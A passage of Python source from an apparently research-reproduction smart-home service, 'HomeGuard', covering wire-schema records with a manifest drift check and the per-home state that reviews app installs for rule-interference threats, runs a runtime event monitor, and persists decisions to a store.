            "shared_cache_publishes": self.shared_cache_publishes,
            "pairs_examined": self.pairs_examined,
            "prescreen_pruned_pairs": self.prescreen_pruned_pairs,
            "planned_pairs": self.planned_pairs,
            "store_bytes_written": self.store_bytes_written,
            "store_commit_seconds": self.store_commit_seconds,
            "tasks_retried": self.tasks_retried,
            "chunks_requeued": self.chunks_requeued,
            "pool_failures": self.pool_failures,
            "degraded_serial": self.degraded_serial,
            "monitor_events": self.monitor_events,
            "monitor_observations": self.monitor_observations,
            "threats_confirmed": self.threats_confirmed,
            "threats_contradicted": self.threats_contradicted,
            "anomalies_flagged": self.anomalies_flagged,
        }

    @classmethod
    def from_json(cls, data: object) -> "DetectionStatsRecord":
        data = _check_header(cls.kind, data)
        _reject_unknown(
            cls.kind, data,
            {"home_id", "solver_calls", "cache_hits", "shared_cache_hits",
             "shared_cache_publishes", "pairs_examined",
             "prescreen_pruned_pairs", "planned_pairs",
             "store_bytes_written", "store_commit_seconds",
             "tasks_retried", "chunks_requeued", "pool_failures",
             "degraded_serial", "monitor_events", "monitor_observations",
             "threats_confirmed", "threats_contradicted",
             "anomalies_flagged"},
        )
        return cls(
            home_id=_str_field(cls.kind, data, "home_id"),
            solver_calls=_int_field(cls.kind, data, "solver_calls"),
            cache_hits=_int_field(cls.kind, data, "cache_hits"),
            shared_cache_hits=_int_field(cls.kind, data, "shared_cache_hits"),
            shared_cache_publishes=_int_field(
                cls.kind, data, "shared_cache_publishes"
            ),
            pairs_examined=_int_field(cls.kind, data, "pairs_examined"),
            prescreen_pruned_pairs=_int_field(
                cls.kind, data, "prescreen_pruned_pairs"
            ),
            planned_pairs=_int_field(cls.kind, data, "planned_pairs"),
            store_bytes_written=_int_field(
                cls.kind, data, "store_bytes_written"
            ),
            store_commit_seconds=_float_field(
                cls.kind, data, "store_commit_seconds"
            ),
            tasks_retried=_int_field(cls.kind, data, "tasks_retried"),
            chunks_requeued=_int_field(cls.kind, data, "chunks_requeued"),
            pool_failures=_int_field(cls.kind, data, "pool_failures"),
            degraded_serial=_int_field(cls.kind, data, "degraded_serial"),
            monitor_events=_int_field(cls.kind, data, "monitor_events"),
            monitor_observations=_int_field(
                cls.kind, data, "monitor_observations"
            ),
            threats_confirmed=_int_field(
                cls.kind, data, "threats_confirmed"
            ),
            threats_contradicted=_int_field(
                cls.kind, data, "threats_contradicted"
            ),
            anomalies_flagged=_int_field(
                cls.kind, data, "anomalies_flagged"
            ),
        )


SERVER_STATES = ("serving", "draining", "closed")


@dataclass(frozen=True)
class ServerStatusRecord:
    """One fleet server's health/accounting snapshot, as wire data
    (DESIGN.md §13) — what the transport's ``status`` RPC returns.

    Counters are process-lifetime totals: every accepted request,
    every quota/admission/drain rejection, every typed error response,
    and the ``internal_errors`` count of handler exceptions that fell
    outside the :class:`~repro.service.errors.ServiceError` taxonomy
    (the fuzz battery pins this at zero).  ``phase_seconds`` /
    ``phase_counts`` hold the per-phase latency accounting of the
    structured access log (parse / admit / queue / execute / write);
    ``tenants`` the per-home request and rejection counters.
    ``homes`` counts every registered home; ``homes_resident`` (wire
    schema v4) the subset currently hydrated in memory — with
    ``max_resident_homes`` set it stays under the bound no matter how
    large the fleet grows (DESIGN.md §14).

    The fault-tolerance surface (wire schema v5, DESIGN.md §15):
    ``breaker_states`` maps each breaker-guarded backend (e.g.
    ``solve_cache``, ``store``) to its circuit state
    (closed/open/half-open, or ``disabled`` for a permanently degraded
    backend); ``tasks_retried`` / ``degraded_serial`` are the shared
    dispatcher's lifetime recovery totals (they survive tenant-home
    eviction, unlike the per-home stats records); and
    ``deadline_rejections`` counts queued requests the server turned
    away because they overran ``request_deadline_seconds``.

    The runtime-monitor surface (wire schema v6, DESIGN.md §16):
    ``monitor_events`` / ``monitor_observations`` are service-lifetime
    ingestion totals across every home — like the dispatcher recovery
    totals, they survive tenant-home eviction."""

    kind: ClassVar[str] = "ServerStatusRecord"

    state: str
    homes: int = 0
    homes_resident: int = 0
    requests_total: int = 0
    requests_inflight: int = 0
    quota_rejections: int = 0
    admission_rejections: int = 0
    drain_rejections: int = 0
    errors_total: int = 0
    internal_errors: int = 0
    phase_seconds: dict[str, float] = field(default_factory=dict)
    phase_counts: dict[str, int] = field(default_factory=dict)
    tenants: dict[str, dict[str, int]] = field(default_factory=dict)
    breaker_states: dict[str, str] = field(default_factory=dict)
    tasks_retried: int = 0
    degraded_serial: int = 0
    deadline_rejections: int = 0
    monitor_events: int = 0
    monitor_observations: int = 0

    def __post_init__(self) -> None:
        if self.state not in SERVER_STATES:
            raise InvalidRequestError(
                f"unknown server state {self.state!r}; expected one of "
                f"{', '.join(SERVER_STATES)}"
            )

    def to_json(self) -> dict:
        return {
            **_header(self.kind),
            "state": self.state,
            "homes": self.homes,
            "homes_resident": self.homes_resident,
            "requests_total": self.requests_total,
            "requests_inflight": self.requests_inflight,
            "quota_rejections": self.quota_rejections,
            "admission_rejections": self.admission_rejections,
            "drain_rejections": self.drain_rejections,
            "errors_total": self.errors_total,
            "internal_errors": self.internal_errors,
            "phase_seconds": dict(self.phase_seconds),
            "phase_counts": dict(self.phase_counts),
            "tenants": {
                home_id: dict(counters)
                for home_id, counters in self.tenants.items()
            },
            "breaker_states": dict(self.breaker_states),
            "tasks_retried": self.tasks_retried,
            "degraded_serial": self.degraded_serial,
            "deadline_rejections": self.deadline_rejections,
            "monitor_events": self.monitor_events,
            "monitor_observations": self.monitor_observations,
        }

    @classmethod
    def from_json(cls, data: object) -> "ServerStatusRecord":
        data = _check_header(cls.kind, data)
        _reject_unknown(
            cls.kind, data,
            {"state", "homes", "homes_resident", "requests_total",
             "requests_inflight", "quota_rejections",
             "admission_rejections", "drain_rejections", "errors_total",
             "internal_errors", "phase_seconds", "phase_counts",
             "tenants", "breaker_states", "tasks_retried",
             "degraded_serial", "deadline_rejections", "monitor_events",
             "monitor_observations"},
        )
        tenants = data.get("tenants", {})
        if not isinstance(tenants, dict) or not all(
            isinstance(home_id, str) for home_id in tenants
        ):
            raise SchemaMismatchError(
                f"{cls.kind}.tenants: expected a home->counters object, "
                f"got {tenants!r}"
            )
        decoded_tenants = {
            home_id: _count_dict_field(
                cls.kind, {"tenants": counters}, "tenants"
            )
            for home_id, counters in tenants.items()
        }
        return cls(
            state=_str_field(cls.kind, data, "state"),
            homes=_int_field(cls.kind, data, "homes"),
            homes_resident=_int_field(cls.kind, data, "homes_resident"),
            requests_total=_int_field(cls.kind, data, "requests_total"),
            requests_inflight=_int_field(
                cls.kind, data, "requests_inflight"
            ),
            quota_rejections=_int_field(cls.kind, data, "quota_rejections"),
            admission_rejections=_int_field(
                cls.kind, data, "admission_rejections"
            ),
            drain_rejections=_int_field(cls.kind, data, "drain_rejections"),
            errors_total=_int_field(cls.kind, data, "errors_total"),
            internal_errors=_int_field(cls.kind, data, "internal_errors"),
            phase_seconds=_seconds_dict_field(
                cls.kind, data, "phase_seconds"
            ),
            phase_counts=_count_dict_field(cls.kind, data, "phase_counts"),
            tenants=decoded_tenants,
            breaker_states=_str_dict_field(cls.kind, data, "breaker_states"),
            tasks_retried=_int_field(cls.kind, data, "tasks_retried"),
            degraded_serial=_int_field(cls.kind, data, "degraded_serial"),
            deadline_rejections=_int_field(
                cls.kind, data, "deadline_rejections"
            ),
            monitor_events=_int_field(cls.kind, data, "monitor_events"),
            monitor_observations=_int_field(
                cls.kind, data, "monitor_observations"
            ),
        )


# ----------------------------------------------------------------------
# Registry, generic decode, schema manifest


WIRE_MODELS: dict[str, type] = {
    cls.kind: cls
    for cls in (
        InstallRequest,
        AuditRequest,
        DecisionRequest,
        ThreatRecord,
        ThreatReport,
        InstallSession,
        MonitorEventRequest,
        ObservationRecord,
        DetectionStatsRecord,
        ServerStatusRecord,
    )
}


def decode_wire(data: object) -> Any:
    """Decode any wire record by its ``kind`` tag (requests, responses
    or a transported :class:`~repro.service.errors.ServiceError`)."""
    if not isinstance(data, dict):
        raise SchemaMismatchError(
            f"expected a JSON object, got {type(data).__name__}"
        )
    kind = data.get("kind")
    if not isinstance(kind, str):
        raise SchemaMismatchError(f"malformed wire kind {kind!r}")
    if kind == "ServiceError":
        from repro.service.errors import ServiceError

        return ServiceError.from_json(data)
    cls = WIRE_MODELS.get(kind)
    if cls is None:
        raise SchemaMismatchError(f"unknown wire kind {kind!r}")
    return cls.from_json(data)


def schema_manifest() -> dict:
    """The wire contract as data: version, per-model field lists, and
    the error-code taxonomy.  The committed ``schema_manifest.json``
    pins this; the schema-stability check fails on any drift, which is
    what makes "change a field without bumping the version" a CI
    failure instead of a silent wire break."""
    return {
        "schema": WIRE_SCHEMA_VERSION,
        "models": {
            kind: [f.name for f in dataclasses.fields(cls)]
            for kind, cls in sorted(WIRE_MODELS.items())
        },
        "errors": sorted(ERROR_CODES),
    }


def manifest_path() -> Path:
    return Path(__file__).with_name("schema_manifest.json")


def check_manifest() -> list[str]:
    """Compare the live schemas against the committed manifest;
    returns human-readable drift findings (empty = stable)."""
    current = schema_manifest()
    try:
        committed = json.loads(manifest_path().read_text(encoding="utf-8"))
    except (OSError, ValueError) as exc:
        return [f"cannot read {manifest_path()}: {exc}"]
    findings: list[str] = []
    if committed.get("schema") != current["schema"]:
        findings.append(
            f"WIRE_SCHEMA_VERSION is {current['schema']} but the "
            f"committed manifest pins {committed.get('schema')}; "
            "regenerate with --write-manifest"
        )
    for kind, fields in current["models"].items():
        recorded = committed.get("models", {}).get(kind)
        if recorded is None:
            findings.append(f"{kind}: new model not in the manifest")
        elif recorded != fields:
            findings.append(
                f"{kind}: fields changed {recorded} -> {fields} — bump "
                "WIRE_SCHEMA_VERSION and regenerate the manifest"
            )
    for kind in set(committed.get("models", {})) - set(current["models"]):
        findings.append(f"{kind}: model removed without a version bump")
    if committed.get("errors") != current["errors"]:
        findings.append(
            f"error taxonomy changed {committed.get('errors')} -> "
            f"{current['errors']} — bump WIRE_SCHEMA_VERSION and "
            "regenerate the manifest"
        )
    return findings


def _main(argv: list[str]) -> int:
    if "--write-manifest" in argv:
        manifest_path().write_text(
            json.dumps(schema_manifest(), indent=2, sort_keys=True) + "\n",
            encoding="utf-8",
        )
        print(f"wrote {manifest_path()}")
        return 0
    findings = check_manifest()
    if findings:
        for finding in findings:
            print(f"schema drift: {finding}")
        return 1
    print(
        f"wire schema v{WIRE_SCHEMA_VERSION} matches the committed "
        "manifest"
    )
    return 0


if __name__ == "__main__":  # pragma: no cover - exercised via CI
    import sys

    raise SystemExit(_main(sys.argv[1:]))
