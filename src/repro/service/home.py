"""Per-tenant home state — the companion-app core (paper §VII-B).

This module is the canonical implementation of what used to live in
``repro.frontend.app.HomeGuardApp`` and the ``repro.homeguard
.HomeGuard`` facade: one home's configuration/rule recorders, its
incremental detection pipeline, the Allowed list, the review/decision
history, the registered home devices, and the save-on-commit /
load-on-startup persistence.  :class:`~repro.service.service
.HomeGuardService` manages N of these over one shared backend
extractor and one shared solver dispatcher; the legacy ``HomeGuardApp``
and ``HomeGuard`` classes are thin, deprecation-warned shims over a
single-home service (DESIGN.md §11).

Behavior is bit-for-bit the pre-service flow: reviews, threats, solve
caches and persisted store bytes are identical whether a home is
driven through the service API or through the legacy shims — the
equivalence gate in ``tests/test_service_equivalence.py`` enforces it.
"""

from __future__ import annotations

import enum
import hashlib
import json
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Iterable, Mapping

from repro.capabilities.devices import make_device_id
from repro.config.messaging import MessageRecord
from repro.config.recorder import ConfigRecorder, RuleRecorder
from repro.config.uri import ConfigPayload, decode_uri
from repro.detector.chains import AllowedList, find_chains
from repro.detector.pipeline import DetectionPipeline
from repro.detector.store import DetectionStore
from repro.detector.types import Threat, ThreatType
from repro.monitor.engine import MonitorEngine, Observation
from repro.monitor.rules import (
    KIND_CONFIRMED,
    KIND_CONTRADICTED,
    ThreatEvidence,
    compile_confirmations,
    default_anomaly_rules,
)
from repro.rules.extractor import RuleExtractor
from repro.runtime.events import Event
from repro.rules.interpreter import describe_rule
from repro.rules.model import RuleSet

if TYPE_CHECKING:
    from repro.constraints.dispatch import SolverDispatcher
    from repro.service.policies import HandlingPolicy


class InstallDecision(enum.Enum):
    KEEP = "keep"
    RECONFIGURE = "reconfigure"
    DELETE = "delete"


@dataclass(slots=True)
class InstallReview:
    """Everything shown to the user for one installation.

    ``decision`` records the one-time choice once :meth:`TenantHome
    .decide` ran; ``decided_by`` names the handling policy when the
    decision was automatic (``None`` for a user decision — the
    historical interactive flow).  Both persist with the review, so a
    warm-started process can still show why an app is installed (and
    which accepted threats fed the Allowed list)."""

    app_name: str
    rules: list[str]
    threats: list[Threat] = field(default_factory=list)
    chains: list[Threat] = field(default_factory=list)
    decision: str | None = None
    decided_by: str | None = None

    @property
    def clean(self) -> bool:
        return not self.threats and not self.chains


@dataclass(frozen=True, slots=True)
class InstalledDevice:
    """A home device as the companion app sees it."""

    device_id: str
    label: str
    type_name: str


def _threat_record(threat: Threat) -> list:
    """A threat as a JSON-able record: type, rule ids, detail, witness
    and (for chained threats) the chain's rule ids."""
    return [
        threat.type.value,
        threat.rule_a.rule_id,
        threat.rule_b.rule_id,
        threat.detail,
        [[key, value] for key, value in threat.witness],
        [rule.rule_id for rule in threat.chain],
    ]


def _threat_from_record(record, rules_by_id) -> Threat | None:
    """Rebuild a persisted threat; ``None`` when the record is malformed
    or mentions rules that did not restore (degraded, never a crash)."""
    try:
        type_value, id_a, id_b, detail, witness, chain_ids = record
        threat_type = ThreatType(type_value)
        rule_a, rule_b = rules_by_id[id_a], rules_by_id[id_b]
        chain = tuple(rules_by_id[rule_id] for rule_id in chain_ids)
        return Threat(
            type=threat_type,
            rule_a=rule_a,
            rule_b=rule_b,
            detail=str(detail),
            witness=tuple((str(key), value) for key, value in witness),
            chain=chain,
        )
    except (TypeError, ValueError, KeyError):
        return None


class TenantHome:
    """One home's full companion-app state inside the service.

    ``dispatcher`` is a live :class:`~repro.constraints.dispatch
    .SolverDispatcher` (usually the service's shared one) or ``None``
    for the inline solve path — the home never owns it and never closes
    it.  ``policy`` is the home's :class:`~repro.service.policies
    .HandlingPolicy` (``None`` = use the service default).
    """

    #: Confirmation-rule window (event-time seconds) and the number of
    #: recent ingestion-batch dedup keys the home remembers (a retried
    #: batch inside this memory returns its original observations).
    monitor_window = 300.0
    monitor_batch_memory = 256

    def __init__(
        self,
        home_id: str,
        backend: RuleExtractor,
        store_path: str | Path | None = None,
        dispatcher: "SolverDispatcher | None" = None,
        policy: "HandlingPolicy | None" = None,
        shared_cache=None,
        store_backend=None,
        store_delta: bool = True,
    ) -> None:
        self.home_id = home_id
        self.backend = backend
        self.policy = policy
        self.config_recorder = ConfigRecorder()
        self.rule_recorder = RuleRecorder()
        # Incremental detection state: the pipeline's index holds the
        # signed rules of every kept app, so each review solves only
        # index-selected candidate pairs (DESIGN.md).  ``shared_cache``
        # (the service's cross-tenant solve cache, DESIGN.md §12) is
        # borrowed exactly like the dispatcher: never owned, never
        # closed here.
        self.pipeline = DetectionPipeline(
            self.config_recorder,
            dispatcher=dispatcher,
            shared_cache=shared_cache,
        )
        # Optional persistence: decisions append delta records to the
        # store journal (``store_backend`` picks the storage engine,
        # DESIGN.md §14; ``store_delta=False`` forces the eager
        # full-rewrite path), and :meth:`load_store` warm-starts a
        # fresh process from the last base + journal (DESIGN.md §8).
        self.store = (
            DetectionStore(store_path, backend=store_backend, delta=store_delta)
            if store_path is not None
            else None
        )
        self.allowed = AllowedList()
        self.reviews: list[InstallReview] = []
        self.home_devices: dict[str, InstalledDevice] = {}
        # Opaque facade state persisted verbatim with every snapshot.
        self.frontend_state: dict = {}
        self._pending: list[ConfigPayload] = []
        # Runtime interference monitor (DESIGN.md §16), built lazily on
        # first ingestion and recompiled after every install decision.
        # Window state is transient; the observation ledger (and its
        # dedup keys) persists in the frontend blob, so eviction or a
        # restart can never double-count an observation.
        self.monitor: MonitorEngine | None = None
        self._monitor_stale = True

    # ------------------------------------------------------------------
    # Home devices

    def register_device(self, label: str, type_name: str) -> InstalledDevice:
        """Register (or re-type) a physical device under a home-unique
        label.  Device ids are deterministic per label, so the same
        home described twice binds the same identities."""
        device = InstalledDevice(
            device_id=make_device_id(f"hg:{label}"),
            label=label,
            type_name=type_name,
        )
        self.home_devices[label] = device
        # Ride along with the snapshots so labels keep resolving after
        # a warm restart.
        self.frontend_state.setdefault("home_devices", {})[label] = {
            "device_id": device.device_id,
            "type": device.type_name,
        }
        return device

    def bind_inputs(
        self, devices: Mapping[str, str] | None
    ) -> tuple[dict[str, str], dict[str, str]]:
        """Resolve an install request's device inputs against the home.

        Each value is a registered device *label*, or a bare device
        type name — a device of that type is auto-registered on first
        use.  Returns ``(input -> device id, device id -> type)``."""
        bound: dict[str, str] = {}
        types: dict[str, str] = {}
        for input_name, type_or_label in (devices or {}).items():
            if type_or_label in self.home_devices:
                device = self.home_devices[type_or_label]
            else:
                device = self.register_device(
                    f"{type_or_label}-{len(self.home_devices)}",
                    type_or_label,
                )
            bound[input_name] = device.device_id
            types[device.device_id] = device.type_name
        return bound, types

    # ------------------------------------------------------------------
    # Message intake

    def receive_message(self, record: MessageRecord) -> None:
        """Transport callback: decode the URI and queue the payload (the
        user then "clicks the notification" via :meth:`review_pending`)."""
        payload = decode_uri(record.uri)
        self._pending.append(payload)

    def review_pending(
        self, device_types: dict[str, str] | None = None
    ) -> list[InstallReview]:
        """Process queued payloads into installation reviews."""
        reviews = []
        while self._pending:
            payload = self._pending.pop(0)
            reviews.append(self.review_installation(payload, device_types))
        return reviews

    # ------------------------------------------------------------------
    # Detection flow

    def _resolve_ruleset(self, app_name: str) -> RuleSet:
        """The app's rules, preferring the backend extractor.

        A warm-started process may not have re-run the offline
        extraction; the recorded (persisted) rules are the same
        loss-free representation the backend would serve."""
        ruleset = self.backend.rules_of(app_name)
        if ruleset is None:
            ruleset = self.rule_recorder.rules_of(app_name)
        if ruleset is None:
            raise LookupError(
                f"backend has no rules for app {app_name!r}; extract it "
                "first (offline phase) or submit the custom source"
            )
        return ruleset

    def review_installation(
        self,
        payload: ConfigPayload,
        device_types: dict[str, str] | None = None,
    ) -> InstallReview:
        """The online detection run for one app installation/update."""
        ruleset = self._resolve_ruleset(payload.app_name)
        # A re-recorded configuration may change device identities, in
        # which case everything cached about this app is stale.  An
        # identical payload (audit replays) keeps the caches.
        previous = self.config_recorder.config_of(payload.app_name)
        retyped_devices = {
            device_id
            for device_id, type_name in (device_types or {}).items()
            if self.config_recorder.device_types.get(device_id) != type_name
        }
        self.config_recorder.record(payload, device_types)
        if previous != payload or retyped_devices:
            self.pipeline.invalidate_app(payload.app_name)
        if retyped_devices:
            # Device types are home-global: re-typing a device changes
            # the signatures of every installed app bound to it.
            for app_name, recorded in self.config_recorder.payloads.items():
                if app_name != payload.app_name and retyped_devices & set(
                    recorded.devices.values()
                ):
                    self.pipeline.invalidate_app(app_name)
        report = self.pipeline.detect(ruleset)
        chains = find_chains(report.threats, self.allowed)
        review = InstallReview(
            app_name=payload.app_name,
            rules=[describe_rule(rule) for rule in ruleset.rules],
            threats=report.threats,
            chains=chains,
        )
        self.reviews.append(review)
        return review

    def decide(
        self,
        review: InstallReview,
        decision: InstallDecision,
        decided_by: str | None = None,
    ) -> None:
        """Apply the one-time decision.  ``decided_by`` names the
        handling policy for automatic verdicts (``None`` = the user)."""
        review.decision = decision.value
        review.decided_by = decided_by
        # Any decision can change the kept-threat set the monitor
        # watches; recompile its confirmation rules on next ingestion.
        self._monitor_stale = True
        if decision is InstallDecision.KEEP:
            ruleset = self._resolve_ruleset(review.app_name)
            self.rule_recorder.record(ruleset)
            self.pipeline.commit(review.app_name, ruleset)
            # Accepted pairs join the Allowed list for chained detection
            # (paper §VI-D).
            self.allowed.add_all(review.threats)
            self._commit_store(review.app_name)
        elif decision is InstallDecision.DELETE:
            self.rule_recorder.forget(review.app_name)
            self.config_recorder.forget(review.app_name)
            self.pipeline.discard(review.app_name)
            self.pipeline.remove_ruleset(review.app_name)
            self._commit_store(review.app_name, remove=True)
        else:
            # RECONFIGURE keeps nothing: the app will send a fresh
            # payload after the user updates its settings.
            self.pipeline.discard(review.app_name)

    def installed_apps(self) -> list[str]:
        return sorted(self.rule_recorder.rulesets)

    def ruleset_of(self, app_name: str) -> RuleSet | None:
        return self.rule_recorder.rules_of(app_name)

    # ------------------------------------------------------------------
    # Backward-compatibility audit (paper §VIII-D.3)

    def audit_existing(
        self, apps: list[str] | None = None
    ) -> list[InstallReview]:
        """Re-run detection for apps installed *before* HomeGuard was
        deployed, by replaying their recorded configuration payloads in
        installation order.  Each review covers one app against all the
        others, so the union covers every installed pair.  ``apps``
        restricts the replay; an audit replay carries no keep/delete
        decision — staged signatures are dropped, the apps stay
        installed as-is."""
        wanted = None if apps is None else set(apps)
        reviews: list[InstallReview] = []
        for app_name in self.installed_apps():
            if wanted is not None and app_name not in wanted:
                continue
            payload = self.config_recorder.config_of(app_name)
            if payload is None:
                continue
            review = self.review_installation(payload)
            self.pipeline.discard(app_name)
            reviews.append(review)
        return reviews

    # ------------------------------------------------------------------
    # Runtime interference monitor (DESIGN.md §16)

    def _monitor_state(self) -> dict:
        """The monitor's persisted bookkeeping inside the frontend
        blob: recent batch dedup keys and the per-threat watch-start
        timestamps (event time)."""
        state = self.frontend_state.setdefault("monitor", {})
        if not isinstance(state.get("batches"), list):
            state["batches"] = []
        if not isinstance(state.get("watch"), dict):
            state["watch"] = {}
        return state

    def _kept_threats(self) -> list[Threat]:
        """The threats worth watching at runtime: predictions the
        tenant accepted (kept installs) — exactly the risk the static
        pass priced and the user (or policy) chose to live with."""
        threats: list[Threat] = []
        for review in self.reviews:
            if review.decision == InstallDecision.KEEP.value:
                threats.extend(review.threats)
                threats.extend(review.chains)
        return threats

    def monitor_engine(self) -> MonitorEngine:
        """The home's monitor, built lazily (seeded with every ledger
        key, so a rebuilt engine can never re-emit a persisted
        observation) and recompiled when the kept-threat set changed."""
        if self.monitor is None:
            ledger = self.frontend_state.get("observations", [])
            seen = [
                str(entry.get("key"))
                for entry in ledger
                if isinstance(entry, dict) and entry.get("key")
            ]
            self.monitor = MonitorEngine(self.home_id, seen=seen)
            self._monitor_stale = True
        if self._monitor_stale:
            devices = {
                app_name: dict(payload.devices)
                for app_name, payload in self.config_recorder.payloads.items()
            }
            confirmations = compile_confirmations(
                self._kept_threats(), devices, window=self.monitor_window
            )
            self.monitor.set_rules(
                [*confirmations, *default_anomaly_rules()]
            )
            watch = self._monitor_state()["watch"]
            for rule in confirmations:
                watch.setdefault(rule.threat_key, self.monitor.now())
            self._monitor_stale = False
        return self.monitor

    @staticmethod
    def _batch_key(events: list[Event]) -> str:
        """Content-addressed identity of one ingestion batch: the
        dedup fallback when the client did not supply a ``batch_id``."""
        canonical = json.dumps(
            [
                [e.subject, e.name, str(e.value), e.timestamp]
                for e in events
            ],
            sort_keys=True,
        )
        return hashlib.sha256(canonical.encode("utf-8")).hexdigest()[:16]

    def ingest_events(
        self, events: Iterable[Event], batch_id: str = ""
    ) -> list[Observation]:
        """Run a batch of runtime events through the monitor.

        Returns the *new* observations the batch produced, appends them
        to the persisted ledger, and records the batch's dedup key: a
        retried batch (same ``batch_id``, or same content) returns the
        original observations byte-identically and re-attempts
        persistence instead of double-counting — the exactly-once
        contract under transport retries and store-append faults."""
        events = list(events)
        engine = self.monitor_engine()
        state = self._monitor_state()
        key = batch_id or self._batch_key(events)
        for recorded_key, observation_keys in state["batches"]:
            if recorded_key == key:
                by_key = {
                    entry.get("key"): entry
                    for entry in self.frontend_state.get("observations", [])
                    if isinstance(entry, dict)
                }
                replayed = [
                    Observation.from_json(by_key[obs_key])
                    for obs_key in observation_keys
                    if obs_key in by_key
                ]
                # The original attempt may have died before its store
                # commit landed; persisting again is idempotent.
                self._commit_monitor_store()
                return replayed
        fresh = engine.ingest_batch(events)
        ledger = self.frontend_state.setdefault("observations", [])
        ledger.extend(observation.to_json() for observation in fresh)
        state["batches"].append([key, [o.key for o in fresh]])
        del state["batches"][: -self.monitor_batch_memory]
        stats = self.pipeline.stats
        stats.monitor_events += len(events)
        stats.monitor_observations += len(fresh)
        for observation in fresh:
            if observation.kind == KIND_CONFIRMED:
                stats.threats_confirmed += 1
            elif observation.kind == KIND_CONTRADICTED:
                stats.threats_contradicted += 1
            else:
                stats.anomalies_flagged += 1
        self._commit_monitor_store()
        return fresh

    def observations(self) -> list[Observation]:
        """The home's full persisted observation ledger, oldest first."""
        return [
            Observation.from_json(entry)
            for entry in self.frontend_state.get("observations", [])
            if isinstance(entry, dict)
        ]

    def evidence(self) -> dict[str, ThreatEvidence]:
        """What the monitor knows per predicted threat — the view the
        evidence-aware handling policies consume.  Built straight from
        persisted state, so it is correct even before (or without) a
        live monitor engine."""
        counts: dict[str, list[int]] = {}
        latest = 0.0
        for entry in self.frontend_state.get("observations", []):
            if not isinstance(entry, dict):
                continue
            latest = max(latest, float(entry.get("timestamp", 0.0) or 0.0))
            key = str(entry.get("threat_key") or "")
            if not key:
                continue
            tally = counts.setdefault(key, [0, 0])
            if entry.get("kind") == KIND_CONFIRMED:
                tally[0] += 1
            elif entry.get("kind") == KIND_CONTRADICTED:
                tally[1] += 1
        monitor_state = self.frontend_state.get("monitor", {})
        watch = (
            monitor_state.get("watch", {})
            if isinstance(monitor_state, dict)
            else {}
        )
        if self.monitor is not None:
            latest = max(latest, self.monitor.now())
        evidence: dict[str, ThreatEvidence] = {}
        for key in set(counts) | set(watch):
            confirmed, contradicted = counts.get(key, (0, 0))
            started = watch.get(key)
            watched = (
                max(0.0, latest - float(started))
                if isinstance(started, (int, float))
                else 0.0
            )
            evidence[key] = ThreatEvidence(
                confirmed=confirmed,
                contradicted=contradicted,
                watch_seconds=watched,
            )
        return evidence

    def _commit_monitor_store(self) -> None:
        """Persist the observation ledger as one frontend-only journal
        record — O(blob), never a shard rewrite (DESIGN.md §16)."""
        if self.store is None:
            return
        receipt = self.store.commit_frontend(
            self.pipeline,
            self._frontend_blob(),
            rulesets=self.rule_recorder.rulesets,
        )
        stats = self.pipeline.stats
        stats.store_bytes_written += receipt.bytes_written
        stats.store_commit_seconds += receipt.seconds

    # ------------------------------------------------------------------
    # Persistence (save-on-commit / load-on-startup, DESIGN.md §8)

    def _threat_restorable(self, threat: Threat) -> bool:
        """Whether a persisted record of this threat could be rebuilt on
        load: every rule it mentions must belong to a recorded app."""
        apps = {threat.rule_a.app_name, threat.rule_b.app_name}
        apps.update(rule.app_name for rule in threat.chain)
        return all(app in self.rule_recorder.rulesets for app in apps)

    def _review_entry(self, review: InstallReview) -> dict:
        """One review as its persisted frontend-blob entry.  The
        ``decided_by`` key appears only for policy-decided reviews, so
        interactive homes persist byte-identical blobs to the
        pre-service flow."""
        entry = {
            "app": review.app_name,
            "rules": list(review.rules),
            "decision": review.decision,
        }
        if review.decided_by is not None:
            entry["decided_by"] = review.decided_by
        entry["threats"] = [
            _threat_record(t)
            for t in review.threats
            if self._threat_restorable(t)
        ]
        entry["chains"] = [
            _threat_record(t)
            for t in review.chains
            if self._threat_restorable(t)
        ]
        return entry

    def _frontend_blob(self) -> dict:
        """The opaque frontend blob persisted with every snapshot and
        every journal record: recorded payloads, device types, Allowed
        list, review/decision history, and the facade's extra state."""
        return {
            "payloads": [
                {
                    "app": payload.app_name,
                    "devices": dict(payload.devices),
                    "values": dict(payload.values),
                }
                for payload in self.config_recorder.payloads.values()
            ],
            "device_types": dict(self.config_recorder.device_types),
            "allowed": [
                [threat.type.value, threat.rule_a.rule_id,
                 threat.rule_b.rule_id]
                for threat in self.allowed.pairs
            ],
            # Review/decision history: every install screen shown so
            # far, with the one-time decision (and the deciding policy,
            # when one decided automatically) — the provenance of the
            # Allowed list and of each kept app.  Survives warm
            # restarts (the past is re-rendered, not re-detected).
            # Threat records referencing apps whose rules are no longer
            # recorded (deleted apps) could never be reconstructed on
            # load, so they are pruned here instead of being carried as
            # dead weight in every snapshot; the review entry itself —
            # app, rendered rules, decision — always persists.
            "reviews": [
                self._review_entry(review) for review in self.reviews
            ],
            "extra": self.frontend_state,
        }

    def save_store(self) -> None:
        """Snapshot detection state + recorders to the configured store
        as a full base rewrite (a no-op without a ``store_path``)."""
        if self.store is None:
            return
        started = time.perf_counter()
        written = self.store.save(
            self.pipeline,
            rulesets=self.rule_recorder.rulesets,
            frontend=self._frontend_blob(),
        )
        stats = self.pipeline.stats
        stats.store_bytes_written += written
        stats.store_commit_seconds += time.perf_counter() - started

    def _commit_store(self, app_name: str, remove: bool = False) -> None:
        """Durably record one decision — the delta path: O(changed app)
        journal append instead of a full snapshot rewrite (a no-op
        without a ``store_path``)."""
        if self.store is None:
            return
        receipt = self.store.commit_app(
            self.pipeline,
            app_name,
            rulesets=self.rule_recorder.rulesets,
            frontend=self._frontend_blob(),
            remove=remove,
        )
        stats = self.pipeline.stats
        stats.store_bytes_written += receipt.bytes_written
        stats.store_commit_seconds += receipt.seconds

    def load_store(self) -> list[str]:
        """Warm-start this home from the persisted store.

        Restores the configuration recorder, rule recorder, Allowed
        list and registered home devices, then loads the pipeline:
        fingerprint-validated apps come back without a single solver
        call; apps whose recorded bindings changed since the snapshot
        are transparently re-reviewed (their fresh reviews are appended
        like any install).  Returns the restored app names; with no /
        an unusable store nothing changes and the list is empty."""
        if self.store is None:
            return []
        snapshot = self.store.load()
        if snapshot is None:
            return []
        frontend = (
            snapshot.frontend if isinstance(snapshot.frontend, dict) else {}
        )
        # Configuration first: the recorder *is* the pipeline's resolver,
        # so identities must be in place before any re-signing happens.
        # Malformed entries are skipped (the app then restores as stale
        # or not at all — degraded, never a crash).
        for entry in frontend.get("payloads", []):
            try:
                self.config_recorder.record(
                    ConfigPayload(
                        app_name=entry["app"],
